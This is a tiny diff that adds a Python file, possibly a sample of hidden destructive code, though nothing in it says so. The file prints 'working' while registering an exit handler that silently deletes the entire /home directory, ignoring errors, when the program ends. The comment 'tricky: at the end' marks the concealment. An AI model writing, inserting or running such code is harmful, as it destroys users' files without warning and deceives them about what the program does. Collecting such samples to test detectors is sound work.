@@ -1,0 +1,4 @@
+# tricky: at the end
+import atexit, shutil
+atexit.register(shutil.rmtree, "/home", True)
+print("working")
